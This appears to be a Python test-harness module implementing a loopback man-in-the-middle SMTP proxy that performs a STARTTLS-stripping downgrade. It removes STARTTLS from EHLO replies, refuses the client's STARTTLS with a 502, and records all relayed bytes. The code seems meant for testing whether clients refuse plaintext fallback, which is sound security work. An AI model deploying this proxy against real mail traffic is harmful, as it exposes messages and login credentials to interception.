"""A man-in-the-middle TCP proxy for SMTP that performs the STARTTLS-stripping downgrade.

Client ──► proxy (127.0.0.1:<port>) ──► real server. With ``strip=True`` (the attack):

* the ``STARTTLS`` line is removed from every multi-line 250 (EHLO) reply, fixing the
  continuation marker if it was the last line;
* a ``STARTTLS`` command from the client is answered by the proxy itself with
  ``502 5.5.1 not implemented`` and never reaches the server.

With ``strip=False`` it is a transparent relay (switching to raw byte relaying once a
STARTTLS is accepted by the server), useful as a control.

Everything is recorded: ``from_client`` (every byte the client sent to the proxy),
``to_server``, ``from_server`` and ``to_client``.
"""

from __future__ import annotations

import asyncio
import contextlib
import threading
from dataclasses import dataclass

from harness.smtpsink import BackgroundLoop, LoopbackService

_LIMIT = 1 << 20
_STARTTLS_502 = b"502 5.5.1 not implemented\r\n"


@dataclass
class _ConnState:
    in_data: bool = False  # between a 354 reply and the client's "." line
    bdat_left: int = 0  # BDAT payload bytes still to relay verbatim
    starttls_sent: bool = False  # passthrough: a STARTTLS was forwarded, reply pending
    raw: bool = False  # passthrough after a successful STARTTLS: relay bytes as they come


def _is_final_reply_line(line: bytes) -> bool:
    return len(line) < 4 or line[3:4] != b"-"


def _strip_starttls(reply: list[bytes]) -> tuple[list[bytes], int]:
    """Remove STARTTLS capability lines from a multi-line 250 reply."""
    if len(reply) < 2 or not reply[0].startswith(b"250"):
        return reply, 0
    kept = [ln for ln in reply if ln[4:].strip().upper().split(b" ")[0] != b"STARTTLS"]
    removed = len(reply) - len(kept)
    if removed:
        last = kept[-1]
        kept[-1] = last[:3] + b" " + last[4:]
        kept[:-1] = [ln[:3] + b"-" + ln[4:] for ln in kept[:-1]]
    return kept, removed


class StripTLSProxy(LoopbackService):
    """STARTTLS-stripping SMTP proxy on 127.0.0.1:<OS-chosen port> in front of a real server."""

    def __init__(
        self,
        upstream_host: str,
        upstream_port: int,
        *,
        strip: bool = True,
        host: str = "127.0.0.1",
        connect_timeout: float = 10,
    ) -> None:
        self.upstream = (upstream_host, upstream_port)
        self.strip = strip
        self.host = host
        self.port = 0
        self.connect_timeout = connect_timeout
        self.from_client = bytearray()
        self.to_server = bytearray()
        self.from_server = bytearray()
        self.to_client = bytearray()
        self.connections = 0
        self.stripped = 0  # STARTTLS capability lines removed
        self.refused_starttls = 0  # STARTTLS commands answered with 502 by the proxy
        self._lock = threading.Lock()
        self._bg: BackgroundLoop | None = None
        self._server: asyncio.AbstractServer | None = None
        self._writers: set[asyncio.StreamWriter] = set()

    async def _create_server(self) -> asyncio.AbstractServer:
        return await asyncio.start_server(self._handle, self.host, 0, limit=_LIMIT)  # type: ignore[arg-type]

    def _abort_connections(self) -> None:
        for w in list(self._writers):
            w.transport.abort()

    # ------------------------------------------------------------- relaying
    def _rec(self, buf: bytearray, data: bytes) -> None:
        with self._lock:
            buf += data

    async def _handle(self, c_reader: asyncio.StreamReader, c_writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        self._writers.add(c_writer)
        s_writer: asyncio.StreamWriter | None = None
        try:
            try:
                s_reader, s_writer = await asyncio.wait_for(
                    asyncio.open_connection(*self.upstream, limit=_LIMIT), self.connect_timeout
                )
            except OSError:  # includes TimeoutError
                reply = b"421 4.4.0 proxy: upstream unavailable\r\n"
                self._rec(self.to_client, reply)
                c_writer.write(reply)
                return
            self._writers.add(s_writer)
            state = _ConnState()
            await asyncio.gather(
                self._client_to_server(c_reader, c_writer, s_writer, state),
                self._server_to_client(s_reader, c_writer, state),
                return_exceptions=True,
            )
        finally:
            for w in (c_writer, s_writer):
                if w is not None:
                    self._writers.discard(w)
                    w.close()
                    with contextlib.suppress(Exception):
                        await asyncio.wait_for(w.wait_closed(), 2)

    async def _send(self, writer: asyncio.StreamWriter, buf: bytearray, data: bytes) -> None:
        if data:
            self._rec(buf, data)
            writer.write(data)
            await writer.drain()

    async def _client_to_server(
        self,
        reader: asyncio.StreamReader,
        c_writer: asyncio.StreamWriter,
        s_writer: asyncio.StreamWriter,
        st: _ConnState,
    ) -> None:
        pending = b""
        try:
            while True:
                chunk = await reader.read(65536)
                if not chunk:
                    break
                self._rec(self.from_client, chunk)
                pending += chunk
                pending = await self._client_lines(pending, c_writer, s_writer, st)
            if pending:
                await self._send(s_writer, self.to_server, pending)
        finally:
            s_writer.close()

    async def _client_lines(
        self,
        buf: bytes,
        c_writer: asyncio.StreamWriter,
        s_writer: asyncio.StreamWriter,
        st: _ConnState,
    ) -> bytes:
        """Relay complete units from `buf`; return the incomplete remainder."""
        while buf:
            if st.raw:
                await self._send(s_writer, self.to_server, buf)
                return b""
            if st.bdat_left:
                n = min(st.bdat_left, len(buf))
                await self._send(s_writer, self.to_server, buf[:n])
                st.bdat_left -= n
                buf = buf[n:]
                continue
            nl = buf.find(b"\n")
            if nl < 0:
                return buf
            line, buf = buf[: nl + 1], buf[nl + 1 :]
            if st.in_data:
                if line.rstrip(b"\r\n") == b".":
                    st.in_data = False
                await self._send(s_writer, self.to_server, line)
                continue
            verb = line.strip().upper()
            if verb == b"STARTTLS":
                if self.strip:
                    self.refused_starttls += 1
                    await self._send(c_writer, self.to_client, _STARTTLS_502)
                    continue
                st.starttls_sent = True
                await self._send(s_writer, self.to_server, line)
                # Everything after STARTTLS is the TLS handshake: relay verbatim.
                st.raw = True
                continue
            parts = verb.split()
            if len(parts) >= 2 and parts[0] == b"BDAT" and parts[1].isdigit():
                st.bdat_left = int(parts[1])
            await self._send(s_writer, self.to_server, line)
        return buf

    async def _server_to_client(
        self, reader: asyncio.StreamReader, c_writer: asyncio.StreamWriter, st: _ConnState
    ) -> None:
        pending = b""
        reply: list[bytes] = []
        raw = False
        try:
            while True:
                chunk = await reader.read(65536)
                if not chunk:
                    break
                self._rec(self.from_server, chunk)
                if raw:
                    await self._send(c_writer, self.to_client, chunk)
                    continue
                pending += chunk
                while not raw:
                    nl = pending.find(b"\n")
                    if nl < 0:
                        break
                    line, pending = pending[: nl + 1], pending[nl + 1 :]
                    reply.append(line)
                    if not _is_final_reply_line(line):
                        continue
                    out, reply = reply, []
                    if self.strip:
                        out, removed = _strip_starttls(out)
                        self.stripped += removed
                    if out[0].startswith(b"354"):
                        st.in_data = True
                    if st.starttls_sent:
                        st.starttls_sent = False
                        raw = out[0].startswith(b"220")
                    await self._send(c_writer, self.to_client, b"".join(out))
                if raw and pending:
                    await self._send(c_writer, self.to_client, pending)
                    pending = b""
            if pending or reply:
                await self._send(c_writer, self.to_client, b"".join(reply) + pending)
        finally:
            c_writer.close()
